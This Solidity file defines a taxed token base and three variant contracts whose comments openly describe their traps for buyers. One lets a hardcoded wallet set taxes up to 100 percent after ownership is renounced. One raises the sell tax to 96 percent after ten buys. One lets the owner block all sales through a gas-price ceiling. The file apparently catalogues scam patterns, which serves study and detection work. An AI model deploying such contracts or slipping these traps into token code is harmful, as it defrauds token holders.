// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface ITaxedPool {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 out0, uint256 out1, address to, bytes calldata data) external;
}

/// @dev Tax tokens of this kind launch by the hundred a day: they have nine decimals and a fee per side, and sell what
/// they have collected before a holder's sale.
abstract contract NinthTaxed {
    string public name = "Street Organ";
    string public symbol = "ORGAN";
    uint8 public constant decimals = 9;
    uint256 public constant totalSupply = 1_000_000_000 * 10 ** 9;
    uint256 internal constant _SWAP_FROM = totalSupply / 1000;
    uint256 internal constant _SWAP_AT_MOST = totalSupply / 100;

    address private _owner;
    address public uniswapV2Pair;
    address payable internal immutable _taxWallet;
    bool private _inSwap;
    uint256 internal _buyTax = 2;
    uint256 internal _sellTax = 2;
    uint256 internal _buyCount;

    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) internal _isExcludedFromFee;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    constructor(address taxWallet_) {
        _owner = msg.sender;
        _taxWallet = payable(taxWallet_);
        _isExcludedFromFee[msg.sender] = true;
        _isExcludedFromFee[address(this)] = true;
        _isExcludedFromFee[taxWallet_] = true;
        _balances[msg.sender] = totalSupply;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function setPair(address pair) external onlyOwner {
        require(uniswapV2Pair == address(0), "set");
        uniswapV2Pair = pair;
    }

    function balanceOf(address account) external view returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = _allowances[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= amount, "ERC20: transfer amount exceeds allowance");
            _allowances[from][msg.sender] = allowed - amount;
        }
        _transfer(from, to, amount);
        return true;
    }

    function _feeOnBuy() internal virtual returns (uint256) {
        return _buyTax;
    }

    function _feeOnSale(address) internal virtual returns (uint256) {
        return _sellTax;
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(from != address(0) && to != address(0), "ERC20: zero address");
        require(amount > 0, "Transfer amount must be greater than zero");
        uint256 fee;
        if (!_isExcludedFromFee[from] && !_isExcludedFromFee[to] && uniswapV2Pair != address(0)) {
            if (from == uniswapV2Pair) {
                fee = (amount * _feeOnBuy()) / 100;
                _buyCount++;
            } else if (to == uniswapV2Pair) {
                fee = (amount * _feeOnSale(from)) / 100;
                uint256 collected = _balances[address(this)];
                if (!_inSwap && collected >= _SWAP_FROM) {
                    _swapTokensForEth(collected < _SWAP_AT_MOST ? collected : _SWAP_AT_MOST);
                }
            }
        }
        if (fee > 0) _basic(from, address(this), fee);
        _basic(from, to, amount - fee);
    }

    function _basic(address from, address to, uint256 amount) private {
        require(_balances[from] >= amount, "ERC20: transfer amount exceeds balance");
        unchecked {
            _balances[from] -= amount;
            _balances[to] += amount;
        }
        emit Transfer(from, to, amount);
    }

    /// @dev It trades with the pool itself and spares the router's gas. A failed swap stops nobody.
    function _swapTokensForEth(uint256 amount) private {
        _inSwap = true;
        ITaxedPool pool = ITaxedPool(uniswapV2Pair);
        (uint256 reserve0, uint256 reserve1,) = pool.getReserves();
        bool first = pool.token0() == address(this);
        (uint256 reserveIn, uint256 reserveOut) = first ? (reserve0, reserve1) : (reserve1, reserve0);
        _basic(address(this), address(pool), amount);
        uint256 paid = amount * 997;
        uint256 out = (paid * reserveOut) / (reserveIn * 1000 + paid);
        try pool.swap(first ? 0 : out, first ? out : 0, _taxWallet, "") {} catch {}
        _inSwap = false;
    }
}

/// @dev The owner is gone; the marketing wallet sets both taxes and no line holds it below a hundred.
contract StreetOrgan is NinthTaxed(0xc0BbB8d0946B1886d9d3991eaA67E392eD855aA0) {
    event TaxesUpdated(uint256 buy, uint256 sell);

    function updateTaxes(uint256 buy, uint256 sell) external {
        require(msg.sender == _taxWallet, "not marketing");
        require(buy <= 100 && sell <= 100, "percent");
        (_buyTax, _sellTax) = (buy, sell);
        emit TaxesUpdated(buy, sell);
    }
}

/// @dev Others lower their tax after so many purchases. This one raises it: after ten a sale leaves four percent.
contract MorningTram is NinthTaxed(0xc0BbB8d0946B1886d9d3991eaA67E392eD855aA0) {
    uint256 private constant _reduceSellTaxAt = 10;
    uint256 private constant _initialSellTax = 2;
    uint256 private constant _finalSellTax = 96;

    function _feeOnSale(address) internal view override returns (uint256) {
        return _buyCount > _reduceSellTaxAt ? _finalSellTax : _initialSellTax;
    }
}

/// @dev A shield against bots compares the gas price of a sale with a ceiling. The owner moves the ceiling, down to
/// nothing as well.
contract PaperLantern is NinthTaxed(0xc0BbB8d0946B1886d9d3991eaA67E392eD855aA0) {
    uint256 public gasCeiling = 100_000 gwei;

    function calibrate(uint256 ceiling) external onlyOwner {
        gasCeiling = ceiling;
    }

    function _feeOnSale(address) internal view override returns (uint256) {
        require(tx.gasprice <= gasCeiling, "front running");
        return _sellTax;
    }
}
